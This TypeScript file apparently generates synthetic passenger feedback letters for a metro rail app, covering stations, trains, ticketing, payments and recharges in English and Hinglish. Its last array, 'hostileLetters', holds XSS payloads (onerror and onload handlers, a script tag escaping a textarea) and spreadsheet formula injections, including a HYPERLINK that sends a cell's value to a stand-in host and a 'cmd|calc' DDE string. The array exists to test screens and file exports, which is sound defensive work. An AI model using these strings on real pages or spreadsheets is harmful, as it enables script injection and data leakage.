/** A topic of feedback. `{station}`, `{line}`, `{ticket}`, `{amount}`, `{minutes}` are filled in. */
export interface Topic {
  readonly category: string;
  readonly weight: number;
  readonly letters: readonly (readonly [subject: string, text: string])[];
}

/** Topics of feedback that do not concern a failed purchase. */
export const topics: readonly Topic[] = [
  {
    category: 'Station facilities',
    weight: 22,
    letters: [
      ['Lift not working', 'The lift at {station} has been out of order for {minutes} days. My mother cannot climb.'],
      ['Dirty washroom', 'Washroom at {station} is not cleaned after noon. No soap either.'],
      ['Pani nahi hai', '{station} par peene ka paani band hai do hafte se. Garmi mein kya karein?'],
      ['Escalator', 'Escalator towards platform 2 at {station} stops every evening at peak time.'],
      ['No seats', 'There are four benches on the whole platform at {station}. Please add more.'],
      ['Water leaking', 'Roof leaks near gate 3 at {station} whenever it rains, the floor is slippery.'],
      ['Parking rates', 'The parking boy at {station} asked for double the printed rate and gave no slip.'],
    ],
  },
  {
    category: 'Train service',
    weight: 20,
    letters: [
      ['Crowded every morning', '{line} ki 8:40 wali train mein pair rakhne ki jagah nahi. Frequency badhao please.'],
      ['Train late', 'Waited {minutes} minutes at {station} with no announcement at all.'],
      ['AC too cold', 'The AC on {line} is at 18 degrees the whole day. Elders are freezing.'],
      ['AC not working', 'Second coach from the front on {line} had no AC, windows do not open, people felt sick.'],
      ['Announcements', 'Next station is announced wrongly on {line}, always one stop ahead.'],
      ['Last train', 'Last train left {station} four minutes before time. I had to take an auto for ₹{amount}.'],
      ['Ladies coach', 'Gents are sitting in the ladies coach after 9 pm and nobody checks.'],
    ],
  },
  {
    category: 'App',
    weight: 18,
    letters: [
      ['App hangs', 'App hangs on the station picker. I search {station} and nothing happens.'],
      ['Cannot sign in', 'OTP comes after {minutes} minutes, and by then it has expired.'],
      ['History missing', 'My tickets from last month are gone after the update. I need them for office claims.'],
      [
        'Bill chahiye',
        'Office reimbursement ke liye ticket {ticket} ka invoice kaise nikale? Option hi nahi mil raha.',
      ],
      ['Language', 'Please add Kannada and Bengali. Half of my building cannot read the present menu.'],
      ['Notification', 'I get {minutes} notifications a day. I only want the ones about my line.'],
    ],
  },
  {
    category: 'Ticketing',
    weight: 16,
    letters: [
      ['QR did not scan', 'Ticket {ticket} did not scan at {station}. The guard let me out after {minutes} minutes.'],
      ['Charged for extra time', 'I was inside only {minutes} minutes and the gate said overstay. Ticket {ticket}.'],
      [
        'Wrong destination',
        'Booked {station} by mistake. Change option asked me ₹{amount} more, which seems too much.',
      ],
      ['Group ticket', 'Group ticket {ticket}: one of us reached late and could not enter any more. Very rude system.'],
      ['Return ticket', 'Return half of {ticket} was refused at {station} though it was the same day.'],
      ['Gate band tha', '{station} pe gate ne ticket le liya par khula nahi. Dobara ticket lena pada. {ticket}'],
    ],
  },
  {
    category: 'Card and recharge',
    weight: 9,
    letters: [
      ['Recharge not on card', 'Recharged ₹{amount} and the gate at {station} still shows the old balance.'],
      ['Card lost', 'I lost my card at {station}. How do I block it and move the balance?'],
      ['Do baar kat gaya', 'Gate ne do baar paise kaate, {station} par. Card ka balance ₹{amount} kam ho gaya.'],
    ],
  },
  {
    category: 'Staff',
    weight: 7,
    letters: [
      ['Thank you', 'The lady at the counter in {station} helped my father find his way. Please convey our thanks.'],
      ['Rude guard', 'The guard at {station} shouted at my daughter for asking where the exit is.'],
      [
        'Helpful',
        'Left my laptop on {line}. The station controller at {station} had it within {minutes} minutes. Hats off!',
      ],
    ],
  },
  {
    category: 'Lost and found',
    weight: 4,
    letters: [
      ['Blue tiffin bag', 'Left a blue tiffin bag on {line}, got down at {station} around 6:20.'],
      ['Umbrella', 'Black umbrella with a wooden handle, forgotten on the bench at {station}.'],
      ['College ID', 'Mera college ID {station} par gir gaya. Kisi ko mile to please batayein.'],
    ],
  },
  {
    category: 'Suggestion',
    weight: 6,
    letters: [
      ['Monthly pass', 'Please start a monthly pass in the app. I spend ₹{amount} every week.'],
      ['Feeder bus', 'A feeder bus from {station} to the colony would fill your trains.'],
      ['Points', 'Let us give our points to family members.'],
      ['Cycle stand', '{station} needs a cycle stand with a roof.'],
    ],
  },
];

/** Feedback after a failed purchase of tickets, the order `{ticket}`. */
export const paymentTopic: Topic = {
  category: 'Payment',
  weight: 0,
  letters: [
    ['Money debited, no ticket', '₹{amount} was debited for order {ticket} but no ticket came. Please refund soon.'],
    ['Refund kab aayega', 'Order {ticket} ka ₹{amount} kat gaya, ticket nahi mila. Subah se wait kar raha hoon.'],
    [
      'Double payment',
      'Paid twice for the same trip, first try ({ticket}) did not give a ticket. I want my ₹{amount} back.',
    ],
    ['Payment stuck', 'Payment page kept turning for {minutes} minutes, then failed. Order {ticket}.'],
    ['UPI', 'UPI shows success, your app shows failed. Order {ticket}, ₹{amount}. Who is right?'],
  ],
};

/** Feedback after a failed recharge, the order `{ticket}`. */
export const rechargeTopic: Topic = {
  category: 'Card and recharge',
  weight: 0,
  letters: [
    ['Recharge failed', 'Recharge {ticket} of ₹{amount} failed but the bank says debited. When will it come back?'],
    ['Card mein paisa nahi aaya', 'Recharge order {ticket}, ₹{amount}. Card pe kuch nahi aaya, app bolta hai failed.'],
    ['Bank server', 'Tried to recharge ₹{amount} from three banks. All failed. Order {ticket} is the last try.'],
    ['Recharge page', 'Recharge page asks for the PIN twice and then fails. Order {ticket}.'],
  ],
};

/** Beginnings and endings of some letters. */
export const openers: readonly string[] = [
  'Sir, ',
  'Dear team, ',
  'Hello. ',
  'Respected sir/madam, ',
  'Namaste. ',
  'Hi, ',
  'To whom it may concern: ',
];
export const closers: readonly string[] = [
  ' Please look into it.',
  ' Kindly do the needful.',
  ' I have been travelling with you for three years.',
  ' Koi sunta hai kya?',
  ' Photos can be sent if you tell me where.',
  ' Waiting for your reply.',
  ' Third time I am writing.',
  ' Thank you.',
  ' Dhanyavaad.',
];

/** Letters with hostile text, to test screens and files. */
export const hostileLetters: readonly (readonly [subject: string, text: string])[] = [
  [
    '<img src=x onerror=alert(1)>',
    'Ticket not working <img src=x onerror=alert(1)> please check <svg onload=alert(2)>',
  ],
  ['=HYPERLINK("https://example.invalid","Click")', '=HYPERLINK("https://example.invalid/?q="&A1,"Your refund")'],
  ['-2+3+cmd|calc', '@SUM(1+1)*cmd|calc'],
  ['</textarea><script>alert(3)</script>', 'Gate se {station} tak: "quotes", \'apostrophes\', & ampersands; 100% <ok>'],
  ['\tTab at the start', `One very long word: ${'metro'.repeat(60)}`],
];
